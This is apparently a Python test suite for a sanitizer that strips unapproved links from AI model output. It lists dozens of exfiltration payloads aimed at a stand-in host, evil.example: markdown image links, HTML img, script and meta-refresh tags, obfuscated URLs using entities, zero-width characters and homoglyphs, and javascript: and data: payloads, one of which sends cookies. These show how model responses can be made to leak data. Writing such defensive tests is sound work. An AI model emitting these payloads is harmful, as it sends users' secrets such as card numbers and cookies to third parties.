"""Addresses that nobody gave the model do not get out; what was given and what is no address stays."""

import re
import time
from collections.abc import Iterable
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from graph.redaction.links.link_sanitizer import MAX_WORD_CHARS, AllowedUrls, LinkSanitizer, sanitize_links_json
from graph.redaction.links.link_sanitizer import sanitize_links as sanitized
from graph.redaction.links.urls import urls_in

GIVEN = (
    "see https://bank.example/terms and www.shop.example/p?id=7, my page is https://me.example/u/[EMAIL_7K3Q9D]",
    '{"memo": "AMZN.COM/BILL\\nhttps://pay.example/r/1"}',
)


def sanitize_links(text: str, given: Iterable[str]) -> str:
    """The text without the addresses that none of the given texts mentions."""
    return sanitized(text, AllowedUrls(given))


# What must not get out -------------------------------------------------------------------------------------------------

LURE = "evil.example/x?d=[CARD_7K3Q9D]"

MARKDOWN = (
    f"![chart](https://{LURE})",
    f"[click]({'https://' + LURE})",
    f"[click](<https://{LURE}>)",
    f'[click](https://{LURE} "title")',
    f"[click]( https://{LURE} )",
    f"[click](\nhttps://{LURE})",
    f"[click](//{LURE})",
    f"[![a](//{LURE})](//{LURE})",
    f"[click][1]\n\n[1]: https://{LURE}",
    f"[1]: //{LURE} 'title'",
    f"[1]:\n  <https://{LURE}>",
    f"![a][1]\n[1]:https://{LURE}",
    f"<https://{LURE}>",
    f"https://{LURE}",
    f"HTTPS://{LURE}",
    f"www.{LURE}",
    f"(see https://{LURE})",
    f"**https://{LURE}**",
    f"`https://{LURE}`",
    f"|https://{LURE}|",
    f"“https://{LURE}”",
    f"ftp://{LURE}",
    f"file://{LURE}",
    f"app://{LURE}",
    f"xhttps://{LURE}",
    "mailto:me@evil.example?body=[CARD_7K3Q9D]",
    "[mail](mailto:me@evil.example?body=[CARD_7K3Q9D])",
    "https://[CARD_7K3Q9D].evil.example/",
    "https://user:[CARD_7K3Q9D]@evil.example/",
    r"https://evil.example/\[CARD\_7K3Q9D\]",
    "https://evil.example/#CARD_7K3Q9D",
    f"https://bank.example@{LURE}",
    f"https://bank.example.{LURE}",
    f"https://bank.example/terms.{LURE}",
    "https://bank.example/terms?d=[CARD_7K3Q9D]",
    "[terms](https://bank.example/terms#[CARD_7K3Q9D])",
    f"https://bank.example\\@{LURE}",
)

HTML = (
    f'<img src="https://{LURE}">',
    f"<img src=//{LURE}>",
    f"<img/src=//{LURE}>",
    f"<IMG SRC='//{LURE}'",
    f"<a href='https://{LURE}'>click</a>",
    f"<iframe src=https://{LURE}></iframe>",
    f"<style>body{{background:url(//{LURE})}}</style>",
    f"<style>@import '//{LURE}';</style>",
    f"<svg><image href='//{LURE}'/></svg>",
    f"<link rel=stylesheet href=//{LURE}>",
    f"<meta http-equiv=refresh content='0;url=//{LURE}'>",
    f"<form action=//{LURE}><button>x</button></form>",
    f"<script>fetch('//{LURE}')</script>",
    f"<b style='background:url(//{LURE})'>x</b>",
    f"<br onmouseover=\"location='//{LURE}'\">",
    f'<video poster="//{LURE}">',
    f"<base href='//{LURE}'>",
    f"<!--><img src=//{LURE}>",
    f"<PERSON_0A1B2C onload=location='//{LURE}'>",
)

DISGUISED = (
    f"[a](https&#58;//{LURE})",
    f"[a](&#104;ttps://{LURE})",
    f"[a](&#x2f;&#x2f;{LURE})",
    f"[a](&sol;&sol;{LURE})",
    f"[a](\\/\\/{LURE})",
    f"[a](/\\{LURE})",
    f"[a](\\\\{LURE})",
    f"[1]: &#47;&#47;{LURE}",
    f"[1]: https&colon;&sol;&sol;{LURE}",
    f"[1]: \\/\\/{LURE}",
    f"https:&#47;&#47;{LURE}",
    f"https:\\/\\/{LURE}",
    f"https:\\\\{LURE}",
    f"h\u200bttps://{LURE}",
    f"https\u200b://{LURE}",
    f"https:\u200b//{LURE}",
    f"https:/\u200b/{LURE}",
    f"https://\u200b{LURE}",
    "https://\uff45\uff56\uff49\uff4c.example/[CARD_7K3Q9D]",
    "https://evil。example/[CARD_7K3Q9D]",
    "https://\u0440\u0430nk.example/[CARD_7K3Q9D]",
    "//evil。example/[CARD_7K3Q9D]",
    "https://3232235521/[CARD_7K3Q9D]",
    "https://[::1]/[CARD_7K3Q9D]",
    f"https:{LURE}",
    f"[a](\uff48ttps://{LURE})",
    f"https\uff1a//{LURE}",
)

ACTIVE = (
    "[a](javascript:location='//evil.example/'+document.cookie)",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](vbscript:msgbox(1))",
    "javascript:alert(((1)))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<iframe srcdoc='&lt;img src=//evil.example&gt;'>",
)

WAYS_OUT = re.compile(
    r"\]\((?![)\s])|\w:[/\\]{1,}\S|(?<![\w/])[/\\]{2}\S+\.|www\.\w|mailto:\S|script:\S|data:\w+/|<(?!PERSON_\w{6}>|/b>)[A-Za-z/!?]",
    re.IGNORECASE,
)
"""What a client could follow, in a plain reading."""


@pytest.mark.parametrize("written", [*MARKDOWN, *HTML, *DISGUISED, *ACTIVE])
def test_no_address_gets_out_that_was_not_given(written: str) -> None:
    for text in (written, f"Here you are: {written}\nAnything else?", f"-{written}"):
        shown = sanitize_links(text, GIVEN)
        assert not WAYS_OUT.search(shown), shown
        assert "evil.example/" not in shown


@pytest.mark.parametrize("written", [*MARKDOWN, *HTML, *DISGUISED, *ACTIVE])
def test_what_was_defused_is_not_changed_again(written: str) -> None:
    once = sanitize_links(written, GIVEN)
    assert sanitize_links(once, GIVEN) == once


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"[my plan](https://{LURE})", "[my plan] ([link removed: evil[.]example])"),
        (f"![chart](https://{LURE})", "! [chart] ([link removed: evil[.]example])"),
        (f"See https://a.b.{LURE}.", "See [link removed: evil[.]example]."),
        (f"<https://{LURE}>", "[link removed: evil[.]example]"),
        (f'<img src="//{LURE}">', '< img src="[link removed: evil[.]example]">'),
        ("[a](//shop.evil.co.uk/x)", "[a] ([link removed: evil[.]co[.]uk])"),
        ("https://\u0440\u0430nk.example/x", "[link removed: xn--nk-6kc7d[.]example]"),
        ("[a](javascript:alert(1))", "[a] ([link removed])"),
        ("https://[PERSON_0A1B2C].evil.example/", "[link removed: evil[.]example]"),
        ("https://evil.example(((x", "[link removed: evil[.]example] (((x"),
    ],
)
def test_the_words_stay_and_a_note_says_what_was_removed(written: str, shown: str) -> None:
    assert sanitize_links(written, GIVEN) == shown


# What stays ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "written",
    [
        "[the terms](https://bank.example/terms)",
        '[the terms](https://bank.example/terms "title")',
        "https://bank.example/terms.",
        "http://BANK.example/terms/",
        "<https://bank.example/terms>",
        "(https://bank.example/terms), and then",
        "**https://www.shop.example/p?id=7**",
        "www.shop.example/p?id=7",
        "https://me.example/u/[EMAIL_7K3Q9D]",
        r"https://me.example/u/\[EMAIL\_7K3Q9D\]",
        "[pay](https://pay.example/r/1)",
        "https://amzn.com/BILL",
    ],
)
def test_an_address_that_the_user_wrote_or_a_tool_returned_stays(written: str) -> None:
    assert sanitize_links(written, GIVEN) == written


@pytest.mark.parametrize(
    "written",
    [
        "You spent $1,200.00/month at AMZN.COM/BILL and Netflix.com; 12/03/2025, 9:30, and/or, N//A.",
        "Data: the data were fine, http is a word, www too, javascript: no.",
        "As said [1], and [2]: see below. [PERSON_0A1B2C]: $12. [PERSON_0A1B2C]'s (rent)",
        r"\[CARD\_7K3Q9D\] and **[CARD_7K3Q9D]**, `[CARD_7K3Q9D]`, <PERSON_0A1B2C>",
        "| a | b |\n|---|:--|\n| AT&T | R&D; <b>bold</b><br>x <sup>2</sup> |",
        "x < 3, a<=b, 5 <7, <3, -> <-, a && b, C:\\Users, \\$5:30, \\frac{1}{2}, // a comment",
        "me@home.example, :-/ ://, file: report.pdf, mailto: me, a/b/c, 支出/收入。",
        "",
    ],
)
def test_what_is_no_address_stays(written: str) -> None:
    assert sanitize_links(written, GIVEN) == written


def test_without_anything_given_every_address_goes() -> None:
    assert sanitize_links("https://bank.example/terms", ()) == "[link removed: bank[.]example]"


def test_addresses_are_found_in_every_spelling() -> None:
    assert urls_in("HTTPS://Bank.Example/A/ (bank.example/A) [x](/rel) www.b.example, c.example") == {
        *("bank.example/A", "www.b.example", "c.example"),
    }


def test_a_word_without_end_is_cut_so_that_no_address_gets_through_in_parts() -> None:
    for before in range(MAX_WORD_CHARS - 12, MAX_WORD_CHARS + 4):
        shown = sanitize_links(f"/{'a' * before}https://{LURE}", ())
        assert "https://e" not in shown
        assert not re.search(r"//evil\.example/", shown)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![a](https://bank.example/terms)", "! [a](https://bank.example/terms)"),
        ("Wow![1]", "Wow! [1]"),
        ("![a][b]\n\n[b]: https://bank.example/terms", "! [a][b]\n\n[b]: https://bank.example/terms"),
    ],
)
def test_an_image_is_no_image_even_where_its_address_may_stay(written: str, shown: str) -> None:
    assert sanitize_links(written, GIVEN) == shown


@pytest.mark.parametrize("written", [*MARKDOWN, *HTML, *DISGUISED])
def test_the_note_is_no_address(written: str) -> None:
    assert "evil.example" not in sanitize_links(written, ()).replace("[CARD_7K3Q9D]@evil.example", "")


def test_the_texts_and_names_of_a_json_value_are_looked_through() -> None:
    value = {f"https://{LURE}": [f"see https://{LURE}", 7, None, "https://bank.example/terms"]}
    assert sanitize_links_json(value, AllowedUrls(GIVEN)) == {
        "[link removed: evil[.]example]": ["see [link removed: evil[.]example]", 7, None, "https://bank.example/terms"]
    }


# Streams ---------------------------------------------------------------------------------------------------------------

parts = st.sampled_from([*MARKDOWN, *HTML, *DISGUISED, *ACTIVE, *GIVEN])
bits = st.sampled_from(
    [
        *(
            "https",
            "://",
            "//",
            "www.",
            "bank.example/terms",
            "](",
            "]",
            "[a",
            ")",
            "<",
            "img ",
            ">",
            "&#47;",
            "\\",
            "/",
        ),
        *(
            "data:",
            "text/html,",
            "mailto:",
            "java",
            "script:",
            "h",
            "x",
            " ",
            "\n",
            ".",
            "。",
            "\uff0c",
            "hello ",
            "[CARD_7K3Q9D]",
        ),
    ]
)
streams = st.lists(parts | bits, max_size=14).map("".join)


def in_chunks(text: str, cuts: list[int]) -> str:
    sanitizer = LinkSanitizer(AllowedUrls(GIVEN))
    edges = [0, *sorted({cut for cut in cuts if 0 < cut < len(text)}), len(text)]
    return "".join(sanitizer.push(text[start:end]) for start, end in pairwise(edges)) + sanitizer.flush()


@settings(deadline=None)
@given(streams, st.lists(st.integers(1, 600), max_size=30))
@example("xhttps://a.example", [1])
@example("data" + "a" * (2 * MAX_WORD_CHARS), [4])
@example("/" * (2 * MAX_WORD_CHARS + 3) + "https://a.example", [MAX_WORD_CHARS + 1])
def test_a_stream_is_defused_as_its_whole_is_however_it_is_cut(text: str, cuts: list[int]) -> None:
    whole = sanitize_links(text, GIVEN)
    assert in_chunks(text, cuts) == whole
    assert in_chunks(text, list(range(1, len(text)))) == whole


@given(streams)
def test_nothing_that_comes_out_of_a_stream_is_a_way_out(text: str) -> None:
    shown = sanitize_links(text, ())
    assert not re.search(r"[/\\]{2}\S*evil\.example/|(?<!\w)www\.\w|\]\((?![)\s])", shown)


def test_plain_words_go_at_once() -> None:
    sanitizer = LinkSanitizer(AllowedUrls())
    for chunk in ["You", " spent", " $12", ".50", " on", " groceries", ";", " well", " done", "."]:
        assert sanitizer.push(chunk) == chunk


def test_an_address_waits_for_its_end() -> None:
    sanitizer = LinkSanitizer(AllowedUrls(GIVEN))
    assert [sanitizer.push(chunk) for chunk in ["see ht", "tps://bank.", "example/terms", " and"]] == [
        *("see ", "", "", "https://bank.example/terms and"),
    ]


@pytest.mark.parametrize(
    "word", ["a", "/", "[", "](", "(", "//", "\\", "<", "&#47;", "//(", "https://a.", "script", "&"]
)
def test_time_grows_with_the_length_only(word: str) -> None:
    begun = time.process_time()
    sanitize_links("/" + word * (16_000 // len(word)), GIVEN)
    sanitizer = LinkSanitizer(AllowedUrls(GIVEN))
    for _ in range(4_000):
        sanitizer.push(word)
    sanitizer.flush()
    assert time.process_time() - begun < 3
